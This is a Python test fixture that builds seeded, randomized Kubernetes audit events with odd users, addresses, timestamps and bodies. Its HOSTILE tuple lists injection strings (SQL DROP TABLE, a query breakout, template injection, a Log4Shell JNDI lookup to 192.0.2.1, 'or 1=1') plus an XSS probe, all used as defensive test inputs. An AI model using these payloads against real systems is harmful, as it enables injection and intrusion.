"""Events that engines could see differently: odd texts, missing parts, ties, bodies."""

from __future__ import annotations

from datetime import datetime, timedelta
from random import Random
from typing import Any

from tests.building import START, event

HOSTILE = (
    "'); DROP TABLE events; --",
    '"}}]}},{"match_all":{}}',
    "{{constructor.constructor('x')()}}",
    "${jndi:ldap://192.0.2.1/x}",
    "*:* OR _exists_:user",
    "nul\x00nul",
    "\\\"' or 1=1 # | limit 1",
)
"""Texts that are a statement, a template or a query where somebody forgets to bind them."""
USERS = (
    "alice", "Alice", "bob", "system:admin", "system:serviceaccount:shop:cart",
    "system:node:node-1", *HOSTILE, "<script>alert(1)</script>", "100%_sure\\*",
    "line\nbreak", "tab\tand \"quotes\"", "it's", "josé", "jose\u0301", "\u0130stanbul",
    "stra\u00dfe", "\uffee-wide", "\U00010348-gothic", "\U0001f469\u200d\U0001f4bb dev", " ",
    "  padded  ", "42", "007", "1e3", "-5", "3.50", "true", "FALSE", "a/b", "a|b", "# no comment",
    "[set]{1,2}(a|b)^$.#@&<>~+",
)  # fmt: skip
AGENTS = (
    "kubectl/v1.37.2 (linux/amd64) kubernetes/0000000", "kubectl/v1.36.0 (darwin/arm64)",
    "curl/8.5.0", "Mozilla/5.0", "python-requests/2.31 id=77 ms=12.5", "took 15 ms of 200 ms",
    "12", "-3.5", "{\"a\": [1, 2.5]}", "[true, null]", "null", "a=b=c", "a=\nb=c", "*literal*",
)  # fmt: skip
NAMES = ("web-0", "web-1", "cart", "Cart", "db", "x" * 40, "né", "a.b", "10", "9", "-1")
ADDRESSES = (
    "10.0.0.7", "10.0.1.1", "10.1.2.3", "192.0.2.1", "203.0.113.9", "127.0.0.1", "::1",
    "2001:db8::1", "2001:db8:1::2", "fe80::1", "::ffff:10.0.0.7", "odd", "unknown", "10.0.0.300",
)  # fmt: skip
NAMESPACES = ("shop", "kube-system", "default", "ci")
GROUPS = ("system:masters", "system:authenticated", "dev", "ops", "")
CODES = (101, 200, 200, 201, 403, 403, 404, 409, 500, 503)
REASONS = ("Forbidden", "NotFound", "Conflict", "AlreadyExists")
VERBS = ("get", "list", "watch", "create", "update", "patch", "delete", "")
STAGES = ("ResponseComplete", "ResponseComplete", "ResponseStarted", "RequestReceived", "Panic")
RESOURCES = ("pods", "deployments", "nodes", "services")
_SECONDS = (0, 0, 0, 1, 59, 60, 61, 3600, 7200, 43_199, 86_400)
# Each day has files and indices of its own, and they take time: few days, far apart.
_PARTS = (0, 0, 0, 1e-6, 0.0005, 0.5, 0.123456)
_DAYS = (-22_000, 40, 40)


class Pool:
    """Makes events, the same ones for the same seed."""

    def __init__(self, seed: int) -> None:
        self.chance = Random(seed)  # noqa: S311 - repeatable, not secret

    def events(self, count: int) -> list[dict[str, Any]]:
        return [self.event(number) for number in range(count)]

    def event(self, number: int) -> dict[str, Any]:
        pick = self.chance.choice
        made = event(
            pick(VERBS),
            pick(RESOURCES),
            namespace=pick(NAMESPACES),
            name=pick(NAMES),
            agent=pick(AGENTS),
            stage=pick(STAGES),
            auditID=f"{number:04d}",
        )
        # Each odd user is there at least once.
        user = USERS[number] if number < len(USERS) else pick(USERS)
        made["user"] = {"username": user, "groups": self.some(GROUPS, 0, 3)}
        if self.happens(0.3):
            made["user"]["extra"] = {"scopes": self.some(("read", "write", "7"), 1, 3)}
        made["sourceIPs"] = self.some(ADDRESSES, 0, 3)
        made["requestURI"] = self.uri(made["objectRef"])
        made["responseStatus"] = self.status()
        made["annotations"] = self.annotations()
        made |= self.times()
        if self.happens(0.5):
            made["requestObject"] = self.body()
        for part in (
            "user",
            "userAgent",
            "responseStatus",
            "objectRef",
            "sourceIPs",
            "annotations",
        ):
            if self.happens(0.06) and (part != "user" or number >= len(USERS)):
                del made[part]
        return made

    def uri(self, reference: dict[str, str]) -> str:
        query = self.chance.choice(("", "?limit=500", "?watch=true&timeoutSeconds=7", "?q=%27%25"))
        return f"/api/v1/namespaces/{reference['namespace']}/{reference['resource']}{query}"

    def status(self) -> dict[str, Any]:
        code = self.chance.choice(CODES)
        if code < 400:
            return {"code": code}
        return {"code": code, "status": "Failure", "reason": self.chance.choice(REASONS)}

    def annotations(self) -> dict[str, str]:
        made = {"authorization.k8s.io/decision": self.chance.choice(("allow", "allow", "forbid"))}
        if self.happens(0.6):
            made["authorization.k8s.io/reason"] = self.chance.choice(
                ("", 'RBAC: allowed by ClusterRoleBinding "view" of ClusterRole "view"')
            )
        if self.happens(0.6):
            made["example.com/cost"] = self.chance.choice(("1", "2.5", "10", "-4", "much", "1e2"))
        if self.happens(0.3):
            made["custom/odd"] = self.chance.choice(USERS)
        return made

    def times(self) -> dict[str, str | None]:
        if self.happens(0.04):
            return {"requestReceivedTimestamp": None, "stageTimestamp": None}
        begin = START + timedelta(seconds=self.chance.choice(_SECONDS) + self.chance.choice(_PARTS))
        if self.happens(0.08):
            begin += timedelta(days=self.chance.choice(_DAYS))
        if self.happens(0.04):
            return {"requestReceivedTimestamp": _moment(begin), "stageTimestamp": None}
        end = begin + timedelta(microseconds=self.chance.choice((0, 2000, 2001, 1_500_000)))
        if self.happens(0.05):
            return {"requestReceivedTimestamp": None, "stageTimestamp": f"{end:%Y-%m-%dT%H:%M:%S}Z"}
        return {"requestReceivedTimestamp": _moment(begin), "stageTimestamp": _moment(end)}

    def body(self) -> Any:
        pick = self.chance.choice
        if self.happens(0.05):
            return [{"op": "add", "path": "/a", "value": 7}, 1.5, "x", True]
        containers = [
            {"name": pick(NAMES), "image": pick(("alpine:3", "nginx", "ghcr.io/a/b:1"))}
            for _ in range(self.chance.randint(0, 3))
        ]
        spec: dict[str, Any] = {"containers": containers}
        choices: dict[str, tuple[Any, ...]] = {
            "replicas": (0, 1, 3, 3, 10, -2, 2**53 + 1, "3", None),
            "weight": (0.1, 0.2, 0.25, -1.5, 1024.5, 7),
            "hostNetwork": (True, False),
            "mixed": (1, "1", "one", True, 2.5, [1, [2]], {"b": 1, "a": None}, None, "true", ""),
        }
        spec |= {key: pick(values) for key, values in choices.items() if self.happens(0.7)}
        labels = {"app": pick(NAMES), "app.kubernetes.io/name": pick(NAMES)}
        return {"kind": "Widget", "metadata": {"labels": labels}, "spec": spec}

    def some(self, values: tuple[str, ...], least: int, most: int) -> list[str]:
        return self.chance.choices(values, k=self.chance.randint(least, most))

    def happens(self, share: float) -> bool:
        return self.chance.random() < share


def _moment(moment: datetime) -> str:
    """As the API server writes it."""
    return f"{moment.replace(tzinfo=None).isoformat(timespec='microseconds')}Z"
